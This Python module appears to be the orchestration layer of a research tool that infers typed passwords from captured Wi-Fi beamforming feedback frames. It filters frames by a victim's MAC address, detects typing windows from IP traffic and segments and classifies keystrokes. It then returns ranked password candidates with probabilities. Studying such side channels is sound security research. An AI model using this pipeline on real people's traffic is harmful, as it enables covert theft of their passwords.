"""End-to-end attack orchestration: the five-step workflow over one capture.

Each window is processed independently; a stage failure (NotViable,
InsufficientPeaks, ...) becomes a structured entry in the report instead of
aborting the remaining windows. Reports are deterministic functions of
(inputs, config, seeds) and embed the config hash.
"""

from __future__ import annotations

import json
from typing import List, Optional

from .config import PipelineConfig, config_hash
from .errors import BfikiError, MalformedReport
from .frames import parse_action_noack
from .inference import KiModel, classify, rank_passwords
from .orchestrator import (VictimProfile, clip_frames, detect_windows,
                           extract_ip_packets)
from .pcap import read_pcap
from .segmenter import SegmentationParams, segment_pipeline
from .series import Viability, frames_to_series, viability_check
from .sra import SraModel, recover


def run_attack(pcap_path: str, mac: bytes, ip_database: frozenset,
               sra_model: SraModel, ki_model: KiModel, cfg: PipelineConfig,
               k_keys: int, take_last: bool = False) -> dict:
    records = list(read_pcap(pcap_path))

    frames = []
    n_malformed = 0
    for rec in records:
        try:
            frame = parse_action_noack(rec)
        except MalformedReport:
            n_malformed += 1
            continue
        if frame is not None and frame.src_mac == mac:
            frames.append(frame)

    profile = VictimProfile(mac=mac, ip_database=ip_database,
                            idle_timeout_s=cfg.idle_timeout_s)
    windows = detect_windows(extract_ip_packets(records), profile,
                             pre_pad_s=cfg.pre_pad_s)
    buckets = clip_frames(frames, windows, mac=mac)

    seg_params = SegmentationParams(alpha=cfg.alpha, beta=cfg.beta, k_keys=k_keys)
    window_reports = []
    any_candidates = False
    for window, bucket in zip(windows, buckets):
        entry = {
            "start_us": window.start_us,
            "end_us": window.end_us,
            "trigger_ip": window.trigger_ip,
            "n_frames": len(bucket),
            "status": "failed",
            "failure": None,
            "candidates": [],
        }
        try:
            entry["candidates"] = _process_window(
                bucket, sra_model, ki_model, cfg, seg_params, take_last)
            entry["status"] = "ok"
            any_candidates = any_candidates or bool(entry["candidates"])
        except BfikiError as exc:
            entry["failure"] = {"kind": type(exc).__name__, "detail": str(exc)}
        window_reports.append(entry)

    return {
        "config_hash": config_hash(cfg),
        "k_keys": k_keys,
        "n_records": len(records),
        "n_frames": len(frames),
        "n_malformed_reports": n_malformed,
        "windows": window_reports,
    }


def _process_window(bucket, sra_model: SraModel, ki_model: KiModel,
                    cfg: PipelineConfig, seg_params: SegmentationParams,
                    take_last: bool) -> List[dict]:
    from .errors import EmptyInput
    if not bucket:
        raise EmptyInput("no BFI frames inside this window")
    series = frames_to_series(bucket, selector=cfg.selector, fs_hz=cfg.fs_hz)
    if viability_check(series, cfg.viability_window_s) is not Viability.VIABLE:
        from .errors import NotViable
        raise NotViable("continuous gap covers half a sliding window")
    dense = recover(sra_model, series)
    segments = segment_pipeline(dense, seg_params, take_last=take_last)
    dists = [classify(ki_model, seg) for seg in segments]
    candidates = rank_passwords(dists, ki_model.layout.keys, cfg.topn)
    return [{"password": c.password, "probability": c.probability}
            for c in candidates]


def dump_report(report: dict) -> str:
    """Canonical JSON: byte-identical across reruns with identical inputs."""
    return json.dumps(report, sort_keys=True, indent=1) + "\n"
